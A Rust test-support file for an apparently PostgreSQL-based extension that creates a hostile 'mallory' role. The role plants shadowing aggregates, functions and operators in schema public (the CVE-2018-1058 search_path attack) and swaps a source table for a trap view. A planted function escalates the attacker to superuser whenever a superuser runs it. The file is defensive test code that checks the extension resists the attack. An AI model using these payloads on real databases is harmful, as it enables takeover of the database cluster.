//! Hostile roles for the security tests (issue 11, items 8 and 9): an unprivileged
//! attacker that plants objects in `public` (the CVE-2018-1058 pattern), or that owns a
//! source and replaces it by a view of its name. Every planted object records that it
//! ran in the sequence `public.pwned_calls` (not undone by a rollback) and, when run
//! by a superuser, makes the attacker superuser.

use crate::TestDb;

/// The attacker's role name for this database (roles are cluster-wide).
pub fn attacker(db: &TestDb) -> String {
    format!("mallory_{}", db.name)
}

/// Creates the attacker role (LOGIN, no other privilege), lets it create objects in
/// `public` (the default before PostgreSQL 15, and in databases upgraded from one),
/// and creates, as the attacker, the sequence `public.pwned_calls`, the log table
/// `public.pwned_log` and the function `public.pwn(what)` that the planted objects
/// call.
pub async fn create_attacker(db: &TestDb) {
    let m = attacker(db);
    db.exec(&format!(
        "CREATE ROLE {m} LOGIN;
         GRANT CREATE, USAGE ON SCHEMA public TO {m};"
    ))
    .await;
    as_attacker(db, &pwn_function(&m)).await;
}

/// Runs `sql` as the attacker (`SET ROLE`); panics with the SQL on error.
pub async fn as_attacker(db: &TestDb, sql: &str) {
    let mut conn = db.connect().await;
    let m = attacker(db);
    if let Err(e) = sqlx::raw_sql(&format!("SET ROLE {m}; {sql}; RESET ROLE"))
        .execute(&mut conn)
        .await
    {
        panic!("as the attacker: {e}\n{sql}");
    }
}

/// [`create_attacker`], then the attacker plants in `public` aggregates, functions and
/// operators that are better matches than the built-ins for calls made unqualified:
/// `array_agg(text | boolean | name)`, `jsonb_agg(jsonb)`, `string_agg(text, text)`,
/// `count(text)`, `to_jsonb(record)`, `array_position(smallint[], smallint)`,
/// `format(text, name, name)`, `@>` and `<@` on `text[]`, `||(name, text)`,
/// `=(name, varchar)`, `=(oid, bigint)`. Each behaves like the built-in it shadows
/// (so a path that runs it still works) after calling `public.pwn`.
pub async fn plant_search_path_objects(db: &TestDb) {
    create_attacker(db).await;
    as_attacker(db, PLANTED).await;
}

fn pwn_function(m: &str) -> String {
    format!(
        r#"
CREATE SEQUENCE public.pwned_calls;
GRANT USAGE, SELECT, UPDATE ON SEQUENCE public.pwned_calls TO PUBLIC;
CREATE TABLE public.pwned_log (what text, by_role text);
GRANT INSERT ON public.pwned_log TO PUBLIC;
CREATE FUNCTION public.pwn(what text) RETURNS void LANGUAGE plpgsql AS $f$
BEGIN
    PERFORM pg_catalog.nextval('public.pwned_calls');
    INSERT INTO public.pwned_log VALUES (what, current_user);
    IF (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname = current_user) THEN
        EXECUTE 'ALTER ROLE {m} SUPERUSER';
    END IF;
END
$f$"#
    )
}

const PLANTED: &str = r#"
-- Aggregates: exact matches beat the polymorphic built-ins.
CREATE FUNCTION public.pwn_append_text(s text[], v text) RETURNS text[] LANGUAGE plpgsql AS $f$
BEGIN PERFORM public.pwn('array_agg(text)'); RETURN pg_catalog.array_append(s, v); END $f$;
CREATE AGGREGATE public.array_agg(text) (sfunc = public.pwn_append_text, stype = text[]);
CREATE FUNCTION public.pwn_append_bool(s boolean[], v boolean) RETURNS boolean[] LANGUAGE plpgsql AS $f$
BEGIN PERFORM public.pwn('array_agg(boolean)'); RETURN pg_catalog.array_append(s, v); END $f$;
CREATE AGGREGATE public.array_agg(boolean) (sfunc = public.pwn_append_bool, stype = boolean[]);
CREATE FUNCTION public.pwn_append_name(s name[], v name) RETURNS name[] LANGUAGE plpgsql AS $f$
BEGIN PERFORM public.pwn('array_agg(name)'); RETURN pg_catalog.array_append(s, v); END $f$;
CREATE AGGREGATE public.array_agg(name) (sfunc = public.pwn_append_name, stype = name[]);
CREATE FUNCTION public.pwn_jsonb_agg(s jsonb, v jsonb) RETURNS jsonb LANGUAGE plpgsql AS $f$
BEGIN PERFORM public.pwn('jsonb_agg(jsonb)');
      RETURN pg_catalog.jsonb_insert(pg_catalog.coalesce(s, '[]'::jsonb), '{-1}', v, true); END $f$;
CREATE AGGREGATE public.jsonb_agg(jsonb) (sfunc = public.pwn_jsonb_agg, stype = jsonb);
CREATE FUNCTION public.pwn_string_agg(s text, v text, d text) RETURNS text LANGUAGE plpgsql AS $f$
BEGIN PERFORM public.pwn('string_agg(text, text)');
      RETURN CASE WHEN s IS NULL THEN v ELSE s OPERATOR(pg_catalog.||) d OPERATOR(pg_catalog.||) v END; END $f$;
CREATE AGGREGATE public.string_agg(text, text) (sfunc = public.pwn_string_agg, stype = text);
CREATE FUNCTION public.pwn_count(s bigint, v text) RETURNS bigint LANGUAGE plpgsql AS $f$
BEGIN PERFORM public.pwn('count(text)'); RETURN s + 1; END $f$;
CREATE AGGREGATE public.count(text) (sfunc = public.pwn_count, stype = bigint, initcond = '0');
-- Functions.
CREATE FUNCTION public.to_jsonb(r record) RETURNS jsonb LANGUAGE plpgsql AS $f$
BEGIN PERFORM public.pwn('to_jsonb(record)'); RETURN pg_catalog.row_to_json(r)::jsonb; END $f$;
CREATE FUNCTION public.array_position(a smallint[], v smallint) RETURNS integer LANGUAGE plpgsql AS $f$
BEGIN PERFORM public.pwn('array_position(smallint[], smallint)');
      RETURN pg_catalog.array_position(a::int4[], v::int4); END $f$;
CREATE FUNCTION public.format(f text, a name, b name) RETURNS text LANGUAGE plpgsql AS $f$
BEGIN PERFORM public.pwn('format(text, name, name)'); RETURN pg_catalog.format(f, a, b); END $f$;
-- Operators: exact operand types beat anyarray / implicit casts.
CREATE FUNCTION public.pwn_contains(a text[], b text[]) RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN PERFORM public.pwn('@>(text[], text[])'); RETURN a OPERATOR(pg_catalog.@>) b; END $f$;
CREATE OPERATOR public.@> (leftarg = text[], rightarg = text[], function = public.pwn_contains);
CREATE FUNCTION public.pwn_contained(a text[], b text[]) RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN PERFORM public.pwn('<@(text[], text[])'); RETURN a OPERATOR(pg_catalog.<@) b; END $f$;
CREATE OPERATOR public.<@ (leftarg = text[], rightarg = text[], function = public.pwn_contained);
CREATE FUNCTION public.pwn_concat(a name, b text) RETURNS text LANGUAGE plpgsql AS $f$
BEGIN PERFORM public.pwn('||(name, text)'); RETURN a::text OPERATOR(pg_catalog.||) b; END $f$;
CREATE OPERATOR public.|| (leftarg = name, rightarg = text, function = public.pwn_concat);
CREATE FUNCTION public.pwn_eq(a name, b varchar) RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN PERFORM public.pwn('=(name, varchar)'); RETURN a::text OPERATOR(pg_catalog.=) b::text; END $f$;
CREATE OPERATOR public.= (leftarg = name, rightarg = varchar, function = public.pwn_eq);
CREATE FUNCTION public.pwn_eq_oid(a oid, b bigint) RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN PERFORM public.pwn('=(oid, bigint)'); RETURN a::bigint OPERATOR(pg_catalog.=) b; END $f$;
CREATE OPERATOR public.= (leftarg = oid, rightarg = bigint, function = public.pwn_eq_oid)
"#;

/// Panics, naming `path`, what ran and as which role, if a planted object ran (the
/// sequence moved) or the attacker became superuser.
pub async fn assert_not_pwned(db: &TestDb, path: &str) {
    let mut conn = db.connect().await;
    let (called,): (bool,) = sqlx::query_as("SELECT is_called FROM public.pwned_calls")
        .fetch_one(&mut conn)
        .await
        .unwrap();
    let ran: Vec<(String, String)> =
        sqlx::query_as("SELECT DISTINCT what, by_role FROM public.pwned_log ORDER BY 1, 2")
            .fetch_all(&mut conn)
            .await
            .unwrap();
    let superuser: bool =
        sqlx::query_scalar("SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = $1")
            .bind(attacker(db))
            .fetch_one(&mut conn)
            .await
            .unwrap();
    assert!(
        !called && !superuser,
        "{path}: planted objects ran (as role: {ran:?}; the log is lost when the \
         transaction rolled back); attacker superuser: {superuser}"
    );
}

/// The attacker owns table `public.src (id int PRIMARY KEY, g int, v int)` with 20
/// rows; call [`replace_source_by_view`] once stream tables read it.
pub async fn attacker_owned_source(db: &TestDb) {
    create_attacker(db).await;
    as_attacker(
        db,
        "CREATE TABLE public.src (id int PRIMARY KEY, g int NOT NULL, v int NOT NULL);
         INSERT INTO public.src SELECT i, i % 3, i FROM generate_series(1, 20) i",
    )
    .await;
}

/// The attacker renames `public.src` to `src_old`, creates a view `public.src` whose
/// body calls `public.pwn`, and truncates `src_old` (the next refresh of a reader is a
/// full one), then inserts a row.
pub async fn replace_source_by_view(db: &TestDb) {
    as_attacker(
        db,
        "CREATE FUNCTION public.evil() RETURNS boolean LANGUAGE plpgsql AS $f$
         BEGIN PERFORM public.pwn('view public.src'); RETURN true; END $f$;
         ALTER TABLE public.src RENAME TO src_old;
         CREATE VIEW public.src AS SELECT id, g, v FROM public.src_old WHERE public.evil();
         TRUNCATE public.src_old;
         INSERT INTO public.src_old VALUES (1, 1, 1)",
    )
    .await;
}

/// The message of the drift that [`replace_source_by_view`] causes.
pub const REPLACED_SOURCE: &str = "source table public.src was renamed to public.src_old, \
                                   and public.src now names another relation";
